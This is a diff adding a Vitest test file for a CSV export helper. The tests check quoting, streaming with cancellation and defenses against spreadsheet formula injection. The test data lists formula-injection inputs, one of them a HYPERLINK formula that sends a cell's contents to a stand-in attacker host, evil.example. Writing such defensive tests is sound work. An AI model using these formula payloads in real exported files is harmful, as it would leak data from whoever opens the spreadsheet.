@@ -1,0 +1,49 @@
+import { expect, it } from "vitest";
+import { csvLine, csvResponse } from "@/lib/csv";
+
+it("quotes texts, doubles their quotes, and leaves numbers and nothing as they are", () => {
+  expect(csvLine(["a", 'say "hi"', "a,b;c\nd", 5, -5, null, ""])).toBe('"a","say ""hi""","a,b;c\nd",5,-5,,""\r\n');
+});
+
+it.each([
+  ["=1+1"],
+  ["+1"],
+  ["-1"],
+  ["@SUM(A1)"],
+  ["\t=1"],
+  ["\r=1"],
+  ["\n=1"],
+  ["\tharmless"],
+  ["  =1+1"],
+  ["\u00a0=1"],
+  ["＝1+1"],
+  ["＋1"],
+  ["－1"],
+  ["＠a"],
+  ['=HYPERLINK("https://evil.example/?"&A1,"click")'],
+])("keeps a spreadsheet from calculating %j", (text) => {
+  expect(csvLine([text])).toBe(`"'${text.replaceAll('"', '""')}"\r\n`);
+});
+
+it.each(["a=1", "1-1", "ada@example.com", "'=1", " text"])("leaves %j as it is", (text) => {
+  expect(csvLine([text])).toBe(`"${text}"\r\n`);
+});
+
+it("sends the file while rows are still being read, and reads no more once nobody listens", async () => {
+  let read = 0;
+  async function* rows() {
+    for (;;) {
+      read++;
+      yield ["x".repeat(1000), read];
+    }
+  }
+  const response = csvResponse("Été; a.csv", ["Text", "Number"], rows());
+  expect(response.headers.get("content-disposition")).toBe("attachment; filename*=UTF-8''%C3%89t%C3%A9%3B%20a.csv");
+  const reader = (response.body as ReadableStream<Uint8Array>).getReader();
+  const first = await reader.read();
+  expect(Buffer.from(first.value ?? []).toString()).toMatch(/^\uFEFF"Text","Number"\r\n"x{1000}",1\r\n/);
+  await reader.cancel();
+  const before = read;
+  await new Promise((done) => setImmediate(done));
+  expect([read, before < 500]).toEqual([before, true]);
+});
